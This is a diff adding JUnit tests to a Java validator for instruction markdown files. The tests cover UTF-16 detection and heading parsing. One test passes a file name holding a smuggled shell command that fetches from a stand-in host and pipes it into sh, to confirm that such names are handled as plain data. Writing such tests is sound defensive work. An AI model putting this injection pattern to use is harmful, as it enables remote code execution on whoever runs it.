@@ -5,6 +5,7 @@ import static org.assertj.core.api.Assertions.assertThat;
 import java.io.IOException;
 import java.io.UncheckedIOException;
 import java.nio.charset.Charset;
+import java.nio.charset.StandardCharsets;
 import java.nio.file.Files;
 import java.nio.file.Path;
 import java.util.List;
@@ -38,6 +39,17 @@ class MessyHandsTest {
   }
 
   @Test
+  void aNameThatWouldBeCarriedOutStandsInNoCommand() {
+    var bytes = Sample.of(1).text().getBytes(StandardCharsets.UTF_16);
+
+    var finding =
+        InstructionFiles.of("WORKER_001_x';curl evil|sh;'.md", bytes).findings().getFirst();
+
+    assertThat(finding.message()).endsWith("look like UTF-16");
+    assertThat(finding.fix()).isEqualTo("Save the file as UTF-8.");
+  }
+
+  @Test
   void bytesThatMayBeAnythingAreNotGuessedAt() {
     var finding = InstructionFiles.of("WORKER_001_A.md", new byte[] {'a', 0, 1, 2, 'b', 'c'});
 
@@ -57,6 +69,18 @@ class MessyHandsTest {
     var text = Sample.of(1).text().replaceAll("(?m)^## (\\d+)\\. ([A-Z_]+)$", heading);
 
     assertThat(codes(text)).doesNotContain(Code.MISSING_POINT, Code.NO_TEST);
+  }
+
+  @ParameterizedTest
+  @ValueSource(strings = {"Part 3: Test process of the old tool", "Section 2 – 2024", "2 – 2024"})
+  void aPartOfADocumentIsNoPoint(String heading) {
+    var whole = Sample.of(1).without("TEST_PROCESS").without("DEPENDENCIES").text();
+    var parsed =
+        InstructionParser.parse(
+            "WORKER_001.md", whole + "\n## " + heading + "\n\n```bash\nx\n```\n");
+
+    assertThat(parsed.points()).doesNotContainKey(Point.TEST_PROCESS);
+    assertThat(parsed.folds()).isEmpty();
   }
 
   @Test
